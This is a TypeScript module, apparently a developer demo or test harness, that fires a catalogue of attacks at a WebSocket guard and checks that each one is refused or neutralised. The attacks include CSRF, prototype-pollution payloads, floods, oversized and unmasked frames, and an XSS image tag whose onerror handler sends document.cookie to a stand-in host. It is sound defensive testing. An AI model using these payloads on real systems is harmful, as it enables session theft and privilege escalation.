// The attacks, each with the bytes it sends and what it would have done without the guard.
// An attack counts as refused only when something proves it: an error frame, a close code, a status, or the log.
import { codeOf, controlOf, isRefusal, refOf, statusOf, type Records } from "./records.ts";
import type { LogRecord } from "./events.ts";
import { fetchToken, post, socketUrl } from "./people.ts";
import { RawPeer, type Frame } from "./raw.ts";

export interface Outcome {
  state: "refused" | "neutralised" | "passed";
  /** The error code the peer got; without one the HTTP status, without that the close code. */
  code: string | null;
  close: number | null;
  ref: string | null;
  /** What the peer got, as it came; one line each. */
  peer: string[];
  /** One more sentence, where code and ref do not say it all. */
  note?: string;
  record: LogRecord | null;
}

export interface Surroundings {
  records: Records;
  /** Shows the session of an attack in the live panel; resolves when its events arrive. */
  follow(session: string): Promise<void>;
}

export interface Attack {
  id: string;
  title: string;
  /** What is sent, as a person reads it. */
  sends: string;
  /** What happens on a server without this control. */
  without: string;
  run(surroundings: Surroundings): Promise<Outcome>;
}

/** Who attacks. The flood has a subject of its own, so that its empty bucket does not answer for the other attacks. */
const ATTACKER = "Mallory";
const FLOODER = "Mallory-flood";
const RECORD_MS_MAX = 2_000;
/** What was neutralised and delivered may have no entry at all, so it is not waited for long. */
const NEUTRALISED_MS_MAX = 500;
const FLOOD_MESSAGES = 200;
const LARGE_BYTES = 70 * 1_024;

/** A peer that is let in, is shown in the panel, and is closed whatever happens. */
async function asPeer<T>(
  around: Surroundings,
  name: string,
  act: (peer: RawPeer, csrf: string, session: string) => Promise<T>,
): Promise<T> {
  const { token } = await fetchToken(name, "5m");
  const peer = new RawPeer(token);
  try {
    const { session, csrfToken } = await peer.welcome();
    await around.follow(session);
    return await act(peer, csrfToken, session);
  } finally {
    peer.close();
  }
}

const errorOf = (frames: readonly Frame[]): Frame | undefined => frames.find((frame) => frame.type === "error");
const part = (frame: Frame | undefined, name: string): string | null => {
  const value = frame?.payload?.[name];
  return typeof value === "string" ? value : null;
};
const line = (frame: Frame): string => JSON.stringify(frame);
const closeLine = (code: number, reason: string): string => `closed ${code}${reason === "" ? "" : ` ${reason}`}`;

/** Sends one text and judges the answer: an `ack` means that the attack passed. */
function sendsText(text: (csrf: string) => string): Attack["run"] {
  return async (around) => {
    const since = around.records.mark();
    return asPeer(around, ATTACKER, async (peer, csrf, session) => {
      peer.send(text(csrf));
      await peer.until((frame) => frame.type === "error" || frame.type === "ack");
      // A refusal that ends the connection says so right after the error.
      if (errorOf(peer.frames) !== undefined) await peer.settle(() => false, 150);
      const error = errorOf(peer.frames);
      const ref = part(error, "ref");
      const answers = peer.frames.filter((frame) => frame.type !== "welcome").map(line);
      if (peer.closed !== null) answers.push(closeLine(peer.closed.code, peer.closed.reason));
      const refused = error !== undefined || (peer.closed !== null && peer.closed.code >= 1002);
      return {
        state: refused ? "refused" : "passed",
        code: part(error, "code") ?? (peer.closed === null ? null : String(peer.closed.code)),
        close: peer.closed?.code ?? null,
        ref,
        peer: answers,
        ...(answers.length === 0 ? { note: "No answer in time, so nothing proves a refusal." } : {}),
        record: refused
          ? await around.records.find({ ref, session, since, matches: isRefusal }, RECORD_MS_MAX)
          : null,
      } satisfies Outcome;
    });
  };
}

const chat = (csrf: string, member: string): string =>
  `{"type":"chat","id":"a1","csrfToken":${JSON.stringify(csrf)},"payload":{"message":"hello",${member}}}`;

/** The markup of the attack; harmless where it is shown, because this page never parses remote text. */
const IMAGE = `<img src=x onerror="fetch('//evil.test/?'+document.cookie)">`;

async function image(around: Surroundings): Promise<Outcome> {
  const since = around.records.mark();
  return asPeer(around, ATTACKER, async (peer, csrf, session) => {
    peer.send(JSON.stringify({ type: "chat", id: "a1", csrfToken: csrf, payload: { message: IMAGE } }));
    const frame = await peer.until(
      (candidate) =>
        candidate.type === "error" ||
        (candidate.type === "chat" && String(candidate.payload?.["message"]).includes("onerror")),
    );
    const refused = frame?.type === "error";
    const delivered = refused ? null : part(frame ?? undefined, "message");
    const neutralised = delivered !== null && !delivered.includes("<");
    return {
      state: refused ? "refused" : neutralised ? "neutralised" : "passed",
      code: refused ? part(frame, "code") : null,
      close: null,
      ref: refused ? part(frame, "ref") : null,
      peer: [delivered ?? (frame === null ? "nothing" : line(frame))],
      note: neutralised ? "Delivered as text: whatever assigns it to innerHTML gets letters, not an element." : "",
      record: await around.records.find(
        { ref: null, session, since, matches: (record) => controlOf(record) === "content" },
        NEUTRALISED_MS_MAX,
      ),
    };
  });
}

async function flood(around: Surroundings): Promise<Outcome> {
  const since = around.records.mark();
  return asPeer(around, FLOODER, async (peer, csrf, session) => {
    const count = (type: string): number => peer.frames.filter((frame) => frame.type === type).length;
    for (let id = 1; id <= FLOOD_MESSAGES; id += 1) {
      peer.send(JSON.stringify({ type: "echo", id, csrfToken: csrf, payload: id }));
    }
    await peer.settle(() => count("ack") + count("error") >= FLOOD_MESSAGES);
    // The first: of a flood, the log keeps the first entries and then samples.
    const error = peer.frames.find((frame) => part(frame, "code") === "rate_limited");
    const ref = part(error, "ref");
    const refused = error !== undefined || peer.closed?.code === 4429;
    const peerGot = error === undefined ? [] : [line(error)];
    if (peer.closed !== null) peerGot.push(closeLine(peer.closed.code, peer.closed.reason));
    return {
      state: refused ? "refused" : "passed",
      code: part(error, "code") ?? (peer.closed === null ? null : String(peer.closed.code)),
      close: peer.closed?.code ?? null,
      ref,
      peer: peerGot,
      note: `${count("ack")} handled, ${count("error")} refused of ${FLOOD_MESSAGES}.`,
      record: await around.records.find(
        { ref, session, since, matches: (record) => controlOf(record)?.startsWith("rate") === true },
        RECORD_MS_MAX,
      ),
    };
  });
}

async function expiredToken(around: Surroundings): Promise<Outcome> {
  const since = around.records.mark();
  const { token } = await fetchToken(ATTACKER, "-1s");
  const peer = new RawPeer(token);
  try {
    await peer.settle(() => peer.frames.some((frame) => frame.type === "welcome"));
    const error = errorOf(peer.frames);
    const ref = part(error, "ref");
    const welcomed = peer.frames.some((frame) => frame.type === "welcome");
    const refused = !welcomed && peer.closed !== null;
    const peerGot = peer.frames.map(line);
    if (peer.closed !== null) peerGot.push(closeLine(peer.closed.code, peer.closed.reason));
    return {
      state: refused ? "refused" : "passed",
      code: part(error, "code") ?? (peer.closed === null ? null : String(peer.closed.code)),
      close: peer.closed?.code ?? null,
      ref,
      peer: peerGot,
      record: await around.records.find(
        { ref, session: null, since, matches: (record) => controlOf(record) === "credential" },
        RECORD_MS_MAX,
      ),
    };
  } finally {
    peer.close();
  }
}

interface ForeignResult {
  opened: boolean;
  blocked: boolean;
  code: number;
  frames: string[];
}

/** Loads the sandboxed frame, gives it a good token, and waits for what it saw. */
async function askForeignPage(token: string): Promise<ForeignResult> {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.className = "foreign";
  frame.title = "A foreign page";
  frame.src = "/dev/frame.html";
  try {
    return await new Promise<ForeignResult>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error("the foreign page did not answer")), 5_000);
      addEventListener("message", function hear(event: MessageEvent<{ from?: string; ready?: boolean } & ForeignResult>) {
        if (event.source !== frame.contentWindow || event.data.from !== "foreign") return;
        // Its origin is opaque, so the target can only be "*"; the token is a short one of the development server.
        if (event.data.ready === true) return frame.contentWindow?.postMessage({ url: socketUrl(), token }, "*");
        removeEventListener("message", hear);
        clearTimeout(timer);
        resolve(event.data);
      });
      document.body.append(frame);
    });
  } finally {
    frame.remove();
  }
}

async function foreignOrigin(around: Surroundings): Promise<Outcome> {
  const since = around.records.mark();
  const { token } = await fetchToken(ATTACKER, "5m");
  const saw = await askForeignPage(token);
  if (saw.blocked) throw new Error("the browser's policy stopped the frame, so the guard was not asked");
  const record = await around.records.find(
    { ref: null, session: null, since, matches: (entry) => controlOf(entry) === "origin" },
    RECORD_MS_MAX,
  );
  const refused = !saw.opened && record !== null;
  return {
    state: refused ? "refused" : "passed",
    code: (record === null ? null : (codeOf(record) ?? statusOf(record))) ?? String(saw.code),
    close: saw.code,
    ref: record === null ? null : refOf(record),
    peer: [`closed ${saw.code}`, ...saw.frames],
    note: refused
      ? "A page never sees the status of a refused handshake: all it learns is 1006."
      : saw.opened
        ? "The foreign page has an open socket."
        : "The frame could not connect, but no entry of the log says that the guard refused it.",
    record,
  };
}

interface HelperAnswer {
  sent: string;
  status: number;
  frames: Frame[];
  closeCode: number | null;
  closeReason: string | null;
  ref: string | null;
}

/** Lets the server's `/dev` helper send frames that no browser sends. */
function throughHelper(kind: "unmasked" | "oversized"): Attack["run"] {
  return async ({ records }) => {
    const since = records.mark();
    const answer = await post<HelperAnswer>("/dev/attack", { kind });
    const frames = answer.frames.map((frame) => (typeof frame === "string" ? (JSON.parse(frame) as Frame) : frame));
    const error = errorOf(frames);
    const ref = answer.ref ?? part(error, "ref");
    const session = part(frames.find((frame) => frame.type === "welcome"), "session");
    const refused = error !== undefined || (answer.closeCode ?? 0) >= 1002 || answer.status !== 101;
    const peer = frames.filter((frame) => frame.type !== "welcome").map(line);
    if (answer.closeCode !== null) peer.push(closeLine(answer.closeCode, answer.closeReason ?? ""));
    return {
      state: refused ? "refused" : "passed",
      code: part(error, "code") ?? (answer.status === 101 ? (answer.closeCode?.toString() ?? null) : String(answer.status)),
      close: answer.closeCode,
      ref,
      peer,
      note: `Sent ${answer.sent.length > 48 ? `${answer.sent.slice(0, 48)}…` : answer.sent}`,
      record: await records.find({ ref, session, since, matches: isRefusal }, RECORD_MS_MAX),
    };
  };
}

/** In the order in which they are shown. Their ids are what tests and links use. */
export const ATTACKS: readonly Attack[] = [
  {
    id: "csrf",
    title: "Wrong CSRF token",
    sends: `"csrfToken":"not-the-token"`,
    without: "Confused code in the page sends in the user's name.",
    run: sendsText(() => `{"type":"chat","id":"a1","csrfToken":"not-the-token","payload":{"message":"hello"}}`),
  },
  {
    id: "proto",
    title: "Prototype pollution",
    sends: `"__proto__":{"isAdmin":true}`,
    without: "A deep merge makes every object of the receiver an admin.",
    run: sendsText((csrf) => chat(csrf, `"__proto__":{"isAdmin":true}`)),
  },
  {
    id: "proto-escaped",
    title: "The same, escaped",
    sends: String.raw`"\u005f\u005fproto\u005f\u005f":{…}`,
    without: "A filter that looks at bytes waves it through; JSON.parse unescapes it.",
    run: sendsText((csrf) => chat(csrf, String.raw`"\u005f\u005fproto\u005f\u005f":{"isAdmin":true}`)),
  },
  {
    id: "onerror",
    title: "Image that runs script",
    sends: "<img src=x onerror=…>",
    without: "Each reader whose page shows messages as HTML runs it.",
    run: image,
  },
  {
    id: "duplicate-keys",
    title: "Duplicate keys",
    sends: `"message":"hello","message":"other"`,
    without: "The check reads the first value, the application the last.",
    run: sendsText((csrf) => chat(csrf, `"message":"other"`)),
  },
  {
    id: "too-large",
    title: "70 KiB message",
    sends: "71,680 letters in one frame",
    without: "Memory for whatever a stranger declares, times all strangers.",
    run: sendsText((csrf) =>
      JSON.stringify({ type: "chat", id: "a1", csrfToken: csrf, payload: { message: "A".repeat(LARGE_BYTES) } }),
    ),
  },
  {
    id: "flood",
    title: "200 messages at once",
    sends: "200 × echo, no pause",
    without: "One peer takes the time of all the others.",
    run: flood,
  },
  {
    id: "expired-token",
    title: "Expired token",
    sends: "wsguard.bearer.… ended 1 s ago",
    without: "A token that leaked once opens sockets for ever.",
    run: expiredToken,
  },
  {
    id: "foreign-origin",
    title: "Foreign page",
    sends: "Origin: null, with a good token",
    without: "Any page the user visits opens a socket as the user.",
    run: foreignOrigin,
  },
  {
    id: "unmasked",
    title: "Unmasked frame",
    sends: "81 0f … sent by the server's helper",
    without: "Bytes chosen by a page poison a proxy on the way (RFC 6455 §10.3).",
    run: throughHelper("unmasked"),
  },
  {
    id: "oversized",
    title: "Oversized frame",
    sends: "a header that declares far too much",
    without: "The server reserves what ten bytes of header ask for.",
    run: throughHelper("oversized"),
  },
];
